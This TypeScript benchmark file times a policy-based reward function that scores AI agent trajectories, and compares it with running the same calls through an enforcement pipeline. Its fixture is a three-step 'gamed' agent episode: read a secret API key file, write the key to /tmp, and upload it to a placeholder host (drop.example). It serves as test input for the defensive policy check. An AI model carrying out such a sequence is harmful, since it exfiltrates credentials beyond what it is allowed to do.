/**
 * Training bench (issue 23): what scoring one trajectory costs, side by side with the alternative a
 * trainer would write first: pushing every call of the episode through a production Pipeline (a
 * Governor with an in-memory state store, recording to memory) and reading its verdicts.
 *
 * Rows: `policyReward` on a 3-call gamed episode and on a 50-call episode (pure re-decision with
 * session labels and limits), the JSONL parse of one episode, and the pipeline alternative on the
 * same 3-call episode (a fresh session per run, as each episode is one).
 *
 * Run: `npm run bench -- training` (2 cores shared with other work: read the load average printed).
 */
import { readFileSync } from 'node:fs';
import { loadavg } from 'node:os';
import { Pipeline } from '../src/enforce/pipeline.js';
import { compilePolicy } from '../src/policy/compile.js';
import { createMemoryStore } from '../src/store/memory.js';
import { policyReward } from '../src/training/reward.js';
import { parseTrajectoryJsonl, trajectoryJsonl, type Trajectory } from '../src/training/trajectory.js';
import { measure, measureAsync, printTable, type Timing } from './stats.js';

const steps: Array<[string, Record<string, unknown>]> = [
  ['read_file', { path: '/secrets/api-key' }],
  ['write_file', { path: '/tmp/notes.txt', content: 'sk-live-123' }],
  ['http_upload', { file: '/tmp/notes.txt', url: 'https://drop.example/u' }],
];

function episode(id: string, n: number): Trajectory {
  const t0 = Date.parse('2026-06-01T00:00:00Z');
  return { id, checkpoint: 'c1', calls: Array.from({ length: n }, (_, i) => ({ step: i, ts: new Date(t0 + i * 1000).toISOString(), tool: steps[i % 3]![0], args: steps[i % 3]![1] })) };
}

/** Runs the training bench and prints its table. */
export async function run(): Promise<void> {
  console.log(`\n## training (load average ${loadavg().map((l) => l.toFixed(2)).join(' ')})\n`);
  const source = (f: string) => ({ name: f, text: readFileSync(`examples/training/${f}`, 'utf8') });
  const policy = compilePolicy([source('policy.yaml'), source('flow-rules.yaml')]);
  const short = episode('ep', 3);
  const long = episode('ep', 50);
  const jsonl = trajectoryJsonl([short]);
  const rows: Timing[] = [];
  rows.push(measure('policyReward, 3-call episode (pure, sessions rebuilt)', () => policyReward(short, policy), { samples: 20_000 }));
  rows.push(measure('policyReward, 50-call episode', () => policyReward(long, policy), { samples: 2_000 }));
  rows.push(measure('parseTrajectoryJsonl, 3-call episode', () => parseTrajectoryJsonl(jsonl), { samples: 20_000 }));
  const store = createMemoryStore();
  const pipeline = new Pipeline({ policy, state: { store } });
  let n = 0;
  rows.push(
    await measureAsync('alternative: the 3 calls through a Pipeline (memory store and sink)', async () => {
      const session = `s${++n}`;
      for (const c of short.calls) await pipeline.decide({ request: { tool: c.tool, args: c.args, context: { session } } });
    }, { samples: 5_000 }),
  );
  await store.close();
  printTable('Scoring one trajectory', rows);
}
